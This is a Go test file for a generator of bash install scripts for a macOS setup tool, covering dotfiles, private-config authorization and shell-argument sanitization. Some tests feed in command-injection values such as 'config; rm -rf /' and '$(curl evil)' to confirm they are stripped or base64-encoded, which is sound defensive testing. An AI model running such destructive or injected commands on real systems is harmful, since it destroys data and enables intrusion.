package installscript

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestGenerateBasicScript(t *testing.T) {
	script := Generate("testuser", "my-config", "", "")

	assert.True(t, strings.HasPrefix(script, "#!/bin/bash"))
	assert.Contains(t, script, "OpenBoot - Custom Install")
	assert.Contains(t, script, "Config: @testuser/my-config")
	assert.Contains(t, script, "openboot-darwin-${ARCH}")
	assert.Contains(t, script, `--user "testuser/my-config" "$@"`)
	assert.Contains(t, script, "install_xcode_clt()")
	assert.Contains(t, script, "install_homebrew()")
	assert.Contains(t, script, "Homebrew/install/HEAD/install.sh")
	assert.Contains(t, script, `trap 'rm -f "$OPENBOOT_BIN"' EXIT`)

	// No optional sections without content.
	assert.NotContains(t, script, "Running Custom Post-Install Script")
	assert.NotContains(t, script, "Setting up Dotfiles")
}

func TestGenerateSanitizesShellArgs(t *testing.T) {
	script := Generate("user@evil.com", "config; rm -rf /", "", "")

	assert.Contains(t, script, "@userevilcom/configrm-rf")
	assert.NotContains(t, script, "user@evil.com")
	assert.NotContains(t, script, "config; rm -rf /")
}

func TestGenerateCustomScriptIsBase64(t *testing.T) {
	custom := "mkdir -p ~/projects\necho \"done\" && $(curl evil)"
	script := Generate("testuser", "my-config", custom, "")

	assert.Contains(t, script, "Running Custom Post-Install Script")
	assert.Contains(t, script, "base64 -d | bash")
	assert.Contains(t, script, "CUSTOM_SCRIPT_EXIT=$?")
	assert.Contains(t, script, "Installation will continue")

	// The raw script body never appears; only its base64 form does.
	assert.NotContains(t, script, "$(curl evil)")
	encoded := base64.StdEncoding.EncodeToString([]byte(custom))
	assert.Contains(t, script, encoded)
}

func TestGenerateDotfilesSection(t *testing.T) {
	script := Generate("testuser", "my-config", "", "https://github.com/testuser/dotfiles")

	assert.Contains(t, script, "Setting up Dotfiles")
	assert.Contains(t, script, `DOTFILES_REPO="https://github.com/testuser/dotfiles"`)
	assert.Contains(t, script, `git clone "$DOTFILES_REPO" "$DOTFILES_DIR"`)
	assert.Contains(t, script, `if [[ ! "$DOTFILES_REPO" =~ ^https:// ]]`)
	assert.Contains(t, script, `stow -v --target="$HOME"`)
	assert.Contains(t, script, `rm -f "$HOME/.zshrc" "$HOME/.zshrc.pre-oh-my-zsh"`)
	assert.Contains(t, script, "Pulling latest changes...")
}

func TestGenerateBothSections(t *testing.T) {
	script := Generate("u", "s", "echo hi", "https://github.com/u/dotfiles")
	assert.Contains(t, script, "Running Custom Post-Install Script")
	assert.Contains(t, script, "Setting up Dotfiles")
}

func TestGeneratePrivateBootstrap(t *testing.T) {
	script := GeneratePrivateBootstrap("https://openboot.dev", "testuser", "my-config")

	assert.True(t, strings.HasPrefix(script, "#!/bin/bash"))
	assert.Contains(t, script, "Private Config Install")
	assert.Contains(t, script, "Config: @testuser/my-config")
	assert.Contains(t, script, `APP_URL="https://openboot.dev"`)
	assert.Contains(t, script, "/api/auth/cli/start")
	assert.Contains(t, script, "/api/auth/cli/poll")
	assert.Contains(t, script, "/cli-auth?code=")
	assert.Contains(t, script, `open "$AUTH_URL"`)
	assert.Contains(t, script, `xdg-open "$AUTH_URL"`)
	assert.Contains(t, script, "for i in $(seq 1 60)")
	assert.Contains(t, script, "sleep 2")
	assert.Contains(t, script, `if [ "$poll_status" = "approved" ]`)
	assert.Contains(t, script, `elif [ "$poll_status" = "expired" ]`)
	assert.Contains(t, script, "Authorization expired")
	assert.Contains(t, script, "Authorization timed out")
	assert.Contains(t, script, `if [ -z "$TOKEN" ]`)
	assert.Contains(t, script, `exec bash <(curl -fsSL -H "Authorization: Bearer $TOKEN"`)
	assert.Contains(t, script, "testuser/my-config/install")
}

func TestGeneratePrivateBootstrapSanitizes(t *testing.T) {
	script := GeneratePrivateBootstrap("https://openboot.dev", "user@evil.com", "config")
	assert.Contains(t, script, "@userevilcom/config")
	assert.NotContains(t, script, "user@evil.com")
}

func TestGeneratePrivateBootstrapTrimsTrailingSlash(t *testing.T) {
	script := GeneratePrivateBootstrap("https://openboot.dev/", "u", "s")
	assert.Contains(t, script, `APP_URL="https://openboot.dev"`)
}

func TestSanitizeShellArg(t *testing.T) {
	assert.Equal(t, "abc-DEF_123", SanitizeShellArg("abc-DEF_123"))
	assert.Equal(t, "rm-rf", SanitizeShellArg("rm -rf /; $()"))
	assert.Equal(t, "", SanitizeShellArg("!!!"))
}
